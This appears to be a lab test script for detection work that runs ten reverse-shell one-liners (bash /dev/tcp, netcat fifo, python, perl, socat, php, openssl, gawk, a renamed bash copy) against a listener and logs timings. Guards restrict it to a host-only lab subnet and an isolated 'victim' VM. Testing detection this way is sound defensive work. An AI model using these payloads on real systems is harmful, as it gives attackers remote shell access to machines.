#!/usr/bin/env bash
# Fire reverse-shell variants at the LAB listener only. Run inside the victim VM.
set -u
L="${LAB_LISTENER:?set LAB_LISTENER (lab listener IP)}"
P="${LAB_PORT:-4444}"
ONLY="${LAB_ONLY:-}"
OUT=/vagrant/out/variants.jsonl

# Guard: listener must be on the lab host-only subnet, and we must be the victim VM.
case "$L" in 192.168.56.*) ;; *) echo "refusing: $L is not on the lab subnet 192.168.56.0/24" >&2; exit 1;; esac
[[ "$(hostname)" == "victim" ]] || { echo "refusing: run this inside the 'victim' lab VM" >&2; exit 1; }
if ip route | grep -q '^default'; then
  echo "refusing: victim VM still has a default route; run 'vagrant provision --provision-with isolate'" >&2; exit 1
fi

mkdir -p /vagrant/out
declare -A V
V[bash-dev-tcp]="bash -c 'bash -i >& /dev/tcp/$L/$P 0>&1'"
V[nc-fifo]="rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc $L $P > /tmp/f"
V[ncat-exec]="ncat $L $P -e /bin/sh"
V[python-pty]="python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"$L\",$P));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")'"
V[perl-socket]="perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));connect(S,sockaddr_in($P,inet_aton(\"$L\")));open(STDIN,\">&S\");open(STDOUT,\">&S\");exec(\"/bin/sh -i\");'"
V[socat-exec]="socat tcp:$L:$P exec:'sh -i',pty,stderr"
V[php-fsockopen]="php -r '\$s=fsockopen(\"$L\",$P);exec(\"/bin/sh -i <&3 >&3 2>&3\");'"
V[openssl-s_client]="rm -f /tmp/s; mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect $L:$P > /tmp/s"
V[awk-inet]="gawk 'BEGIN{s=\"/inet/tcp/0/$L/$P\";while((s|&getline c)>0){while((c|&getline l)>0)print l|&s;close(c)}}'"
V[renamed-bash]="cp /bin/bash /tmp/.x && /tmp/.x -c '/tmp/.x -i >& /dev/tcp/$L/$P 0>&1'"

for id in "${!V[@]}"; do
  if [[ -n "$ONLY" && ",$ONLY," != *",$id,"* ]]; then continue; fi
  start=$(date -u +%FT%T.%3NZ)
  timeout 8 bash -c "${V[$id]}" >/dev/null 2>&1
  rc=$?
  end=$(date -u +%FT%T.%3NZ)
  printf '{"id":"%s","start":"%s","end":"%s","rc":%d}\n' "$id" "$start" "$end" "$rc" >> "$OUT"
  echo "$id rc=$rc"
  rm -f /tmp/f /tmp/s /tmp/.x
  sleep 5
done
